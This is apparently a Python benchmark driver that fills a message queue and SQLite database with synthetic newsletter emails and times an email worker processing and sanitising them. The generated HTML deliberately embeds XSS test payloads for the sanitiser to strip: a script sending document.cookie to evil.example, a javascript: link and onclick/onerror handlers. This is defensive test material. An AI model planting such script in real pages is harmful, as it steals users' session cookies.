#!/usr/bin/python3
"""Drives the email worker benchmark (scripts/lib/bench/35-email.sh): fills a queue and its
SQLite database, then times a worker draining it. The same driver runs ferry-email-worker and
its Python peer (tests/bench/peers/email_worker.py), so both see the same messages, the same
records and the same clock.

    email_bench.py fill --url amqp://... --queue q --db mail.db --schema schema.sqlite.sql
    email_bench.py drain --db mail.db --messages 2000 --label ferry -- taskset -c 1 ferry-email-worker ...

fill   records and queues N distinct ~20 KB emails exactly as ferry-ingest would (the
       deployment's schema, a pending `messages` row with the raw mail, a persistent JSON body
       {"message_id", "email_data"} on a durable queue), in bulk and untimed. Each email is
       multipart/mixed: a multipart/alternative text + HTML newsletter (links, a table, images,
       a <style> block, a <script> and on* handlers for the sanitiser to remove) and a 9 KB PDF
       attachment sent as ~12 KB of base64. Every attachment's bytes differ, so no worker can
       skip a write because identical content was already stored.
drain  starts the worker command (after `--`) on the full queue and polls the database every
       10 ms for processed records. The clock runs from the moment WARM records are processed
       (start-up, imports, connection and the first messages excluded, the same for both) to
       the moment all N are; the rate is (N - WARM) / that time. Then it reads the worker's
       VmHWM (peak resident set) from /proc/PID/status, stops it with SIGTERM and checks that
       every record is processed with one attachment. Prints one line:
       bench=email.worker side=<label> value=<msgs/s> unit=msgs/s n=.. seconds=.. hwm_mb=..
       cpu_ms_per_msg=.. (the worker's user+system CPU per message while the clock ran)
Run with Debian's Python.
"""
import argparse
import base64
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time

HTML_ROW = (
    '<tr><td class="item" style="padding:8px;border-bottom:1px solid #eee" valign="top">'
    '<a href="https://shop.example.com/p/{i}-{k}?utm_source=mail" onclick="track({k})">'
    "Product {k}</a> &mdash; <b>now {k}% off</b><br>"
    '<span style="color:#666">Ships in {k} days. <i>Limited stock.</i></span></td>'
    '<td align="right" width="80"><img src="https://cdn.example.com/img/{k}.png" '
    'alt="product {k}" width="64" height="64" onerror="steal()"></td></tr>\n'
)


def html_part(i: int) -> str:
    rows = "".join(HTML_ROW.format(i=i, k=k) for k in range(12))
    return (
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Weekly digest</title>"
        "<style>body{font-family:Arial} .item{padding:8px}</style></head>"
        f"<body><div class=\"wrap\"><h1>Weekly digest #{i}</h1>"
        "<p>Hello, here is <em>what changed</em> this week. "
        "<a href=\"javascript:alert(1)\">Unsubscribe</a> or "
        "<a href=\"mailto:support@example.com\">write to us</a>.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        f"<table border=\"0\" cellpadding=\"0\" cellspacing=\"0\" width=\"100%\">\n{rows}</table>"
        "<p style=\"font-size:11px\">You receive this because you subscribed. "
        "<font color=\"#999\">Example Shop, 1 Main Street</font></p></div></body></html>"
    )


def text_part(i: int) -> str:
    lines = [f"Weekly digest #{i}", "", "Hello, here is what changed this week.", ""]
    for k in range(12):
        lines.append(f"* Product {k} - now {k}% off, ships in {k} days: "
                     f"https://shop.example.com/p/{i}-{k}?utm_source=mail")
    lines += ["", "You receive this because you subscribed.", "Example Shop, 1 Main Street"]
    return "\r\n".join(lines) + "\r\n"


def attachment_bytes(i: int) -> bytes:
    head = f"%PDF-1.4\n% invoice {i}\n".encode()
    return head + random.Random(i).randbytes(9000 - len(head))


def make_email(i: int) -> str:
    att = base64.encodebytes(attachment_bytes(i)).decode().replace("\n", "\r\n")
    return (
        "Return-Path: <news@shop.example.com>\r\n"
        "From: \"Example Shop\" <news@shop.example.com>\r\n"
        "To: \"Bench User\" <user@bench.example>\r\n"
        f"Subject: Weekly digest #{i}: =?utf-8?q?Gr=C3=BC=C3=9Fe?= and offers\r\n"
        "Date: Sun, 22 Nov 2026 12:00:00 +0000\r\n"
        f"Message-ID: <bench-{i}-{os.getpid()}@shop.example.com>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"mixed-b\"\r\n"
        "\r\n"
        "--mixed-b\r\n"
        "Content-Type: multipart/alternative; boundary=\"alt-b\"\r\n"
        "\r\n"
        "--alt-b\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
        f"{text_part(i)}"
        "--alt-b\r\n"
        "Content-Type: text/html; charset=utf-8\r\n"
        "Content-Transfer-Encoding: 8bit\r\n"
        "\r\n"
        f"{html_part(i)}\r\n"
        "--alt-b--\r\n"
        "--mixed-b\r\n"
        f"Content-Type: application/pdf; name=\"invoice-{i}.pdf\"\r\n"
        f"Content-Disposition: attachment; filename=\"invoice-{i}.pdf\"\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "\r\n"
        f"{att}"
        "--mixed-b--\r\n"
    )


def fill(args) -> None:
    """Records and queues N emails the way ferry-ingest does (same schema, same row, same JSON
    body, persistent), but in bulk: untimed set-up should not take minutes on a slow disk."""
    import json

    import pika

    with open(args.schema, encoding="utf-8") as f:
        schema = f.read()
    db = sqlite3.connect(args.db, isolation_level=None)
    db.execute("PRAGMA journal_mode=WAL")
    db.executescript(schema)
    conn = pika.BlockingConnection(pika.URLParameters(args.url))
    ch = conn.channel()
    ch.queue_declare(args.queue, durable=True)
    ch.queue_purge(args.queue)
    props = pika.BasicProperties(delivery_mode=2, content_type="application/json",
                                 app_id="email_bench")
    total = 0
    now = int(time.time())
    for i in range(args.messages):
        raw = make_email(i)
        total += len(raw)
        mid = f"<bench-{i}-{os.getpid()}@shop.example.com>"
        cur = db.execute(
            "INSERT INTO messages(message_id_header, recipient, sender, raw_size, raw, created_at) "
            "VALUES (?, 'user@bench.example', 'news@shop.example.com', ?, ?, ?)",
            (mid, len(raw), raw, now))
        body = json.dumps({"message_id": cur.lastrowid, "email_data": raw})
        ch.basic_publish("", args.queue, body, props)
    # The broker enqueues asynchronously: wait (bounded) until the queue holds them all.
    settle = time.monotonic() + 60
    while ch.queue_declare(args.queue, passive=True).method.message_count < args.messages:
        if time.monotonic() > settle:
            sys.exit("email_bench: the queue did not fill up within 60 s")
        time.sleep(0.05)
    conn.close()
    print(f"filled n={args.messages} avg_bytes={total // max(args.messages, 1)}", flush=True)


def processed(db: sqlite3.Connection) -> int:
    return db.execute("SELECT COUNT(*) FROM messages WHERE is_processed = 1").fetchone()[0]


def vm_hwm_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status", encoding="ascii") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    return 0.0


def cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat", encoding="ascii") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime + stime


def drain(args) -> None:
    if not args.command:
        sys.exit("email_bench: drain needs the worker command after --")
    db = sqlite3.connect(args.db, timeout=30)
    warm = min(args.warm, args.messages - 1)
    worker = subprocess.Popen(args.command, stdout=subprocess.DEVNULL, stderr=open(args.log, "w"))
    deadline = time.monotonic() + args.max_seconds
    t_warm = None
    cpu_warm = 0.0
    done = 0
    try:
        while time.monotonic() < deadline:
            if worker.poll() is not None:
                sys.exit(f"email_bench: worker exited with {worker.returncode} (see {args.log})")
            done = processed(db)
            if t_warm is None and done >= warm:
                t_warm, warm, cpu_warm = time.monotonic(), done, cpu_seconds(worker.pid)
            if done >= args.messages:
                break
            time.sleep(0.01)
        t_end = time.monotonic()
        hwm = vm_hwm_mb(worker.pid)
        cpu = cpu_seconds(worker.pid) - (cpu_warm if t_warm is not None else 0)
    finally:
        worker.send_signal(signal.SIGTERM)
        try:
            worker.wait(timeout=15)
        except subprocess.TimeoutExpired:
            worker.kill()
            worker.wait()
    if t_warm is None or done <= warm:
        sys.exit(f"email_bench: only {done} of {args.messages} processed (see {args.log})")
    bad = db.execute(
        "SELECT COUNT(*) FROM messages m WHERE is_processed = 1 AND (html_body IS NULL OR "
        "html_body LIKE '%<script%' OR html_body LIKE '%onclick%' OR "
        "(SELECT COUNT(*) FROM attachments a WHERE a.message_id = m.id) != 1)").fetchone()[0]
    if bad:
        sys.exit(f"email_bench: {bad} processed records lack sanitised HTML or their attachment")
    n, seconds = done - warm, t_end - t_warm
    print(f"bench=email.worker side={args.label} value={n / seconds:.0f} unit=msgs/s n={n} "
          f"seconds={seconds:.3f} hwm_mb={hwm:.1f} cpu_ms_per_msg={cpu * 1000 / n:.2f} "
          f"complete={int(done >= args.messages)}", flush=True)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("fill")
    f.add_argument("--url", required=True, help="AMQP URL")
    f.add_argument("--queue", required=True)
    f.add_argument("--db", required=True, help="SQLite file (created with --schema)")
    f.add_argument("--schema", required=True, help="apps/common/sql/schema.sqlite.sql")
    f.add_argument("--messages", type=int, default=2000)
    d = sub.add_parser("drain")
    d.add_argument("--db", required=True, help="the SQLite file the worker updates")
    d.add_argument("--messages", type=int, default=2000)
    d.add_argument("--warm", type=int, default=50, help="records processed before the clock starts")
    d.add_argument("--max-seconds", type=float, default=120)
    d.add_argument("--label", default="ferry")
    d.add_argument("--log", default=os.devnull, help="where the worker's stderr goes")
    d.add_argument("command", nargs=argparse.REMAINDER)
    args = ap.parse_args()
    if getattr(args, "command", None) and args.command[0] == "--":
        args.command = args.command[1:]
    fill(args) if args.cmd == "fill" else drain(args)


if __name__ == "__main__":
    main()
